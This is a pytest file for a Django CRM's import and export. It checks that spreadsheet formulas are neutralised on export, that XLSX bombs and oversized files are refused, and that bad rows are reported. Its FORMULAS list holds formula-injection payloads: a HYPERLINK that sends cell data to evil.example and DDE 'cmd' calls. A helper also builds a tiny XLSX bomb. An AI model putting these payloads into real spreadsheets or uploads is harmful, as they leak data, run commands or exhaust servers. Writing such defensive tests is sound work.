"""Files as untrusted input (issue 14, items 3 to 6): formulas, XLSX bombs, big files, bad rows, separators.

These tests use only what a user uses (the admin's screens, the import_csv command), so they run unchanged on
the code before the change and show that it failed there.
"""
import csv
import io
import json
import re
import time
import zipfile
from decimal import Decimal
from io import StringIO

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from crm import models
from tests import factories

CSV, XLSX = "0", "1"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(rows, delimiter=",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _xlsx(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _preview(client, content, file_format=CSV, model_name="customer"):
    name = "file.csv" if file_format == CSV else "file.xlsx"
    return client.post(
        reverse(f"admin:crm_{model_name}_import"),
        {"resource": "0", "format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )


def _confirm(client, preview, model_name="customer"):
    form = preview.context["confirm_form"]
    data = {name: form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")}
    return client.post(reverse(f"admin:crm_{model_name}_process_import"), data)


def _form_errors(response) -> str:
    form = response.context.get("form")
    return " ".join(str(error) for error in form.errors.get("import_file", [])) if form is not None else ""


def _export(client, model_name, file_format, columns):
    data = {"format": file_format, "resource": "0"}
    prefix = {"customer": "customerresource", "order": "orderresource"}[model_name]
    data.update({f"{prefix}_{name}": "on" for name in columns})
    response = client.post(reverse(f"admin:crm_{model_name}_export"), data)
    assert response.status_code == 200
    return response.content


# --- 3. Formula injection ---------------------------------------------------------------------------------------


@pytest.fixture
def hostile_customer(db):
    customer = factories.CustomerFactory(
        last_name=FORMULAS[0], first_name=FORMULAS[2], position=FORMULAS[3], external_id=FORMULAS[4],
        source=FORMULAS[5],
    )
    customer.tags.add(factories.TagFactory(name=FORMULAS[1]))
    factories.PhoneFactory(content_object=customer, number="+7 912 345-67-89")
    return customer


COLUMNS = ["external_id", "last_name", "first_name", "position", "source", "tags", "phone"]


def test_csv_export_makes_every_formula_inert(admin_client, hostile_customer):
    # Given a customer whose text fields start with =, +, -, @, a tab and a carriage return
    # When customers are exported as CSV
    [row] = list(csv.DictReader(io.StringIO(_export(admin_client, "customer", CSV, COLUMNS).decode("utf-8-sig"))))
    # Then every such cell starts with a quote and is otherwise unchanged
    assert row["last_name"] == "'" + FORMULAS[0]
    assert row["first_name"] == "'" + FORMULAS[2]
    assert row["position"] == "'" + FORMULAS[3]
    assert row["external_id"] == "'" + FORMULAS[4]
    assert row["source"] == "'" + FORMULAS[5]
    assert row["tags"] == "'" + FORMULAS[1]
    assert row["phone"] == "'+7 912 345-67-89"


def test_xlsx_export_makes_every_formula_inert_and_keeps_numbers_numbers(admin_client, hostile_customer):
    # Given the same customer, and an order with a total
    factories.OrderFactory(number="=1+1", total=Decimal("1234.50"), customer=hostile_customer)
    # When customers and orders are exported as XLSX
    customers = openpyxl.load_workbook(io.BytesIO(_export(admin_client, "customer", XLSX, COLUMNS))).active
    orders = openpyxl.load_workbook(io.BytesIO(_export(admin_client, "order", XLSX, ["number", "total"]))).active
    # Then no cell is a formula: each is text starting with a quote
    header = [cell.value for cell in customers[1]]
    cells = dict(zip(header, customers[2], strict=True))
    for column in ("last_name", "first_name", "position", "tags", "phone"):
        assert cells[column].data_type != "f", column
        assert cells[column].data_type == "s" and cells[column].value.startswith("'"), column
    assert cells["last_name"].value == "'" + FORMULAS[0]
    order_cells = dict(zip([cell.value for cell in orders[1]], orders[2], strict=True))
    assert order_cells["number"].data_type == "s" and order_cells["number"].value == "'=1+1"
    # And a number stays a number
    assert order_cells["total"].data_type == "n" and order_cells["total"].value == 1234.5


def test_export_then_import_gives_back_the_formula_text(admin_client, hostile_customer):
    # Given the exported file of the hostile customer
    content = _export(admin_client, "customer", CSV, ["id", *COLUMNS])
    # When it is imported back
    preview = _preview(admin_client, content)
    assert preview.context["confirm_form"] is not None
    _confirm(admin_client, preview)
    # Then the record is unchanged: the quote the export added is not stored
    hostile_customer.refresh_from_db()
    assert (hostile_customer.last_name, hostile_customer.position) == (FORMULAS[0], FORMULAS[3])
    assert list(hostile_customer.phones.values_list("number", flat=True)) == ["+7 912 345-67-89"]


# --- 4. XLSX bomb and big files ---------------------------------------------------------------------------------


def _xlsx_bomb(*, declared: bool) -> bytes:
    """A tiny workbook with a cell at XFD1048576, whose sheet declares A1:XFD1048576 (or, lying, A1:B2)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx([["last_name", "first_name"], ["Petrov", "Ivan"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                if declared:
                    text, count = re.subn(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', text)
                    assert count == 1
                text = text.replace(
                    "</sheetData>",
                    '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
                )
                data = text.encode()
            bomb.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "undeclared"])
def test_admin_import_refuses_an_xlsx_bomb_at_once(admin_client, db, declared):
    # Given a 5 kB workbook whose cells span A1:XFD1048576 (declared so, or not)
    bomb = _xlsx_bomb(declared=declared)
    assert len(bomb) < 8000
    # When it is submitted for import
    started = time.monotonic()
    response = _preview(admin_client, bomb, XLSX)
    seconds = time.monotonic() - started
    # Then it is refused with a form error in well under a second, and nothing is imported
    assert seconds < 1.0
    assert "columns" in _form_errors(response) or "rows" in _form_errors(response)
    assert response.context.get("confirm_form") is None
    assert models.Customer.objects.count() == 0


def test_admin_import_refuses_a_file_over_the_size_limit(admin_client, db, settings):
    # Given a 1,000-byte limit and a bigger file
    settings.IMPORT_MAX_FILE_BYTES = 1000
    content = _csv([["last_name"], *[[f"Name {n}"] for n in range(200)]])
    # When it is submitted, Then it is refused with a form error naming the limit
    response = _preview(admin_client, content)
    assert "files up to 0.0 MB" in _form_errors(response)
    assert models.Customer.objects.count() == 0


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_admin_import_refuses_a_file_over_the_row_limit(admin_client, db, settings, file_format):
    # Given a 50-row limit and a file of 51 rows
    settings.IMPORT_MAX_ROWS = 50
    rows = [["last_name"], *[[f"Name {n}"] for n in range(51)]]
    content = _csv(rows) if file_format == CSV else _xlsx(rows)
    # When it is submitted, Then it is refused with a form error, and nothing is imported
    response = _preview(admin_client, content, file_format)
    assert "more than 50 rows" in _form_errors(response)
    assert response.context.get("confirm_form") is None
    # And a file of exactly 50 rows is fine
    response = _preview(admin_client, _csv(rows[:51]) if file_format == CSV else _xlsx(rows[:51]), file_format)
    assert response.context.get("confirm_form") is not None


def test_admin_import_preview_of_a_large_file_shows_the_first_rows_only(admin_client, db, settings):
    # Given a preview limit of 5 rows and a file of 300
    settings.IMPORT_PREVIEW_ROWS = 5
    content = _csv([["last_name", "first_name"], *[[f"Name{n:03d}", "X"] for n in range(300)]])
    # When it is previewed
    response = _preview(admin_client, content)
    html = response.content.decode()
    # Then the page lists 5 rows and counts the other 295
    assert "Name004" in html and "Name005" not in html and "Name299" not in html
    assert "and 295 more rows" in html
    # And confirming imports all 300
    _confirm(admin_client, response)
    assert models.Customer.objects.count() == 300


# --- 5. import_csv does not stop half way -----------------------------------------------------------------------


def _run(path, *args):
    out, err = StringIO(), StringIO()
    call_command("import_csv", "customer", str(path), "--no-progress", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def _deep_json(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def _file_with_bad_rows(tmp_path):
    rows = [["external_id", "last_name", "custom_fields", "birthday"]]
    rows += [[f"good-{n}", f"Good {n}", "", ""] for n in range(3)]
    rows.append(["deep", "Deep", _deep_json(3000), ""])  # line 5
    rows += [[f"good-{n}", f"Good {n}", "", ""] for n in range(3, 6)]
    rows.append(["not-a-date", "Bad", "", "31.02.1990"])  # line 9
    rows.append(["deep-but-readable", "Deeper", _deep_json(50), ""])  # line 10
    rows += [[f"good-{n}", f"Good {n}", json.dumps({"card": n}), ""] for n in range(6, 9)]
    path = tmp_path / "customers.csv"
    path.write_bytes(_csv(rows))
    return path


def test_import_csv_reports_every_bad_row_and_imports_all_good_ones(tmp_path, db):
    # Given a file whose line 5 nests its custom fields 3,000 deep, line 9 has a bad date and line 10 nests 50 deep
    path = _file_with_bad_rows(tmp_path)
    # When it is imported
    out, _err = _run(path)
    # Then every good row is imported, and every bad one is reported with its line
    assert sorted(models.Customer.objects.values_list("external_id", flat=True)) == [f"good-{n}" for n in range(9)]
    assert "line 5:" in out and "line 9:" in out and "line 10:" in out
    assert "skipped: 3" in out


def test_import_csv_atomic_imports_nothing_when_a_row_is_bad(tmp_path, db):
    # Given the same file
    path = _file_with_bad_rows(tmp_path)
    # When it is imported with --atomic, Then the command fails, naming the bad lines, and imports nothing
    with pytest.raises(CommandError, match="Nothing was imported"):
        out, _err = _run(path, "--atomic")
    assert models.Customer.objects.count() == 0
    assert models.Company.objects.count() == 0


def test_import_csv_atomic_imports_a_good_file(tmp_path, db):
    path = tmp_path / "good.csv"
    path.write_bytes(_csv([["external_id", "last_name"], ["a", "A"], ["b", "B"]]))
    out, _err = _run(path, "--atomic")
    assert "created: 2" in out
    assert models.Customer.objects.count() == 2


# --- 6. Separators and unknown columns in the admin -------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_admin_import_reads_a_semicolon_or_tab_separated_csv(admin_client, db, delimiter):
    # Given a CSV separated by semicolons (as Excel saves it in Russian or German) or tabs
    content = _csv([["last_name", "first_name", "email"], ["Petrov", "Ivan", "ivan@example.com"],
                    ["Lee", "Mary, Jr.", "mary@example.com"]], delimiter)
    # When it is imported in the admin
    preview = _preview(admin_client, content)
    _confirm(admin_client, preview)
    # Then the columns were recognised: two customers with their names and emails
    assert sorted(models.Customer.objects.values_list("last_name", "first_name")) == [
        ("Lee", "Mary, Jr."), ("Petrov", "Ivan")
    ]
    assert models.Email.objects.count() == 2


def test_admin_import_refuses_a_file_with_no_recognised_column(admin_client, db):
    # Given a file none of whose columns the import knows (a separator that is not , ; or tab)
    content = "last_name|first_name\nPetrov|Ivan\nLee|Mary\n".encode()
    # When it is submitted, Then it is refused with a form error, and no blank customer is made
    response = _preview(admin_client, content)
    assert "No column of this file is one the import knows" in _form_errors(response)
    assert response.context.get("confirm_form") is None
    assert models.Customer.objects.count() == 0
